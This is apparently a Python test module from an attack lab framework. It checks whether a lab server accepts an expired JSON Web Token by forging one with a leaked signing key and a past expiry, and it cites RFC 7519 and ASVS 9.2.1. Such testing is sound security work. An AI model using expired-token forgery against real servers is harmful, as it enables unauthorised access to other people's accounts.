"""Use a token after its end.

Exploits a server that does not look at `exp`.
Source: RFC 7519, section 4.1.4 Expiration Time,
https://www.rfc-editor.org/rfc/rfc7519#section-4.1.4
ASVS: 9.2.1
"""

import time

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge
from attacks.lab.target import Target


@attack(door="token-unchecked")
def run(target: Target) -> Outcome:
    """Sign a token that ended an hour ago, as the server would have."""
    victim = target.enrol()
    ended = {"iat": int(time.time()) - 7200, "exp": int(time.time()) - 3600}
    token = target.forge(victim, target.leaked_key(), **ended)
    return judge({"ended an hour ago": target.read(token)})
